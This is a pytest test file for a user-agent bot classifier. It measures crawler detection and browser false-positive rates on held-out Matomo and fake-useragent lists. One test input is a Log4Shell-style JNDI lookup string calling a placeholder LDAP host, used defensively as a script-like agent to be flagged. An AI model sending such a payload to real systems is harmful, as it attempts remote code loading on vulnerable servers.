"""The bot detection measured on labelled user agents it was not written against.

Matomo's Device Detector fixtures (LGPL-3.0-or-later, from the device-detector package) and
fake-useragent's browsers (Apache-2.0), written by ``scripts/refresh-labelled-user-agents``:
see tests/data/user_agents/README.md. The generic rules were written looking at one half of
Matomo's lists only (the "development" half: the user agents whose SHA-1 is odd); the other
half is held out, and is what the goals are asserted on, as well as on the whole.
"""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from admin_hits.logs.bots import BotClassifier, _generic_regexes, is_spider

DATA = Path(__file__).resolve().parents[1] / "data/user_agents"
# In-app browsers and webviews: Android's "; wv)", Facebook's, Instagram's, WeChat's ...
IN_APP = re.compile(r"; wv\)|FBAN|FB_IAB|Instagram|Line/|Electron/|MicroMessenger|Snapchat|"
                    r"Pinterest|GSA/|Twitter|TikTok|musical_ly|WebView", re.IGNORECASE)  # fmt: skip


def load(name: str) -> list[str]:
    lines = (DATA / name).read_text(encoding="utf-8").splitlines()
    return [line for line in lines if line and not line.startswith("#")]


def held_out(agent: str) -> bool:
    return int(hashlib.sha1(agent.encode()).hexdigest(), 16) % 2 == 0


CRAWLERS = load("matomo-crawlers.txt")
BROWSERS = load("matomo-browsers.txt")
MAINSTREAM = load("mainstream-browsers.txt")


@pytest.fixture(scope="module")
def classifier() -> BotClassifier:
    return BotClassifier()


def share(agents: list[str], classifier: BotClassifier) -> float:
    return sum(classifier.name(agent) is not None for agent in agents) / len(agents)


def test_the_lists_are_large_and_apart() -> None:
    assert len(CRAWLERS) > 1000 and len(BROWSERS) > 5000 and len(MAINSTREAM) > 500
    assert not set(CRAWLERS) & (set(BROWSERS) | set(MAINSTREAM))


@pytest.mark.parametrize("part", ["held out", "all"])
def test_at_least_90_percent_of_crawlers_are_detected(classifier, part) -> None:
    crawlers = [a for a in CRAWLERS if part == "all" or held_out(a)]
    assert share(crawlers, classifier) >= 0.90


def test_at_most_half_a_percent_of_mainstream_browsers_are_flagged(classifier) -> None:
    assert share(MAINSTREAM, classifier) <= 0.005


@pytest.mark.parametrize("part", ["held out", "all"])
def test_at_most_2_percent_of_all_real_browsers_are_flagged(classifier, part) -> None:
    browsers = [a for a in BROWSERS if part == "all" or held_out(a)]
    assert share(browsers, classifier) <= 0.02


def test_the_generic_rules_catch_no_in_app_browser_or_webview(classifier) -> None:
    in_app = [a for a in BROWSERS + MAINSTREAM if IN_APP.search(a)]
    assert len(in_app) > 500
    caught = [a for a in in_app for regex in _generic_regexes()
              if regex.search(classifier._devices.sub(" ", a.lower()))]  # fmt: skip
    assert caught == []


def test_uap_cores_spiders_are_one_more_signal() -> None:
    # A crawler that names itself in no words of the other lists: uap-core knows it.
    agent = "Mozilla/5.0 (X11; Datanyze; Linux) AppleWebKit/537.36 Chrome/65.0 Safari/537.36"
    assert is_spider(agent)
    assert BotClassifier().name(agent) is not None
    assert not is_spider(MAINSTREAM[0])


@pytest.mark.parametrize(
    "agent",
    [
        "Zeno",  # no product/version token at all
        "${jndi:ldap://x.example/a}",  # a payload
        "Mozilla/5.0 Keydrop",  # Mozilla and one word
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; "
        "Google-Sites-Thumbnails) Chrome/120.0 Safari/537.36",  # Google's own fetchers
    ],
)
def test_generic_shapes_of_scripts(classifier, agent) -> None:
    assert classifier.name(agent) is not None


@pytest.mark.parametrize("agent", ["Maui Browser", "Mozilla/5.0 (PlayStation 4 Pro 5.0)"])
def test_browsers_of_odd_shapes_are_people(classifier, agent) -> None:
    assert classifier.name(agent) is None


def test_a_10kb_user_agent_is_judged_quickly(classifier) -> None:
    # Judged at all (no time assertion here: bench/ measures speed); the name is read from the
    # start only, so a long run of letters costs what a short one does.
    assert classifier.name("Android " + "x" * 10_000) is not None
    assert classifier.name("Mozilla/5.0 (iPhone; " + "a" * 10_000) is None
